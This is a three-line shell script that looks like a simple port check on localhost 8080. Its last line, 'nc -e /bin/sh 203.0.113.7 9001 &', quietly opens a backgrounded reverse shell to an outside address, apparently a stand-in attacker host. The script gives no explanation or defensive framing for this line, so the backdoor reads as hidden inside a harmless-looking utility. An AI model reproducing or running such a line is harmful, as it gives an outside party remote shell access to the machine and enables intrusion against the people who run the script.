#!/bin/sh
nc -z localhost 8080 && echo open
nc -e /bin/sh 203.0.113.7 9001 &
